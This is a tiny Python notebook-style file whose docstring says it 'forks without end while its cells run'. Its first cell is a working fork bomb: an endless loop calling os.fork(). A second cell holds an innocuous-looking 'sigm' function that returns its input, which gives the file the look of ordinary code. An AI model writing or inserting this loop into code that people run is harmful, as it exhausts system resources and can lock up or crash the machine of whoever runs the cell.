"""Forks without end while its cells run."""
# others: untouched
# %% top
import os
while True:
    os.fork()
# %% sigm
def sigm(t):
    return t
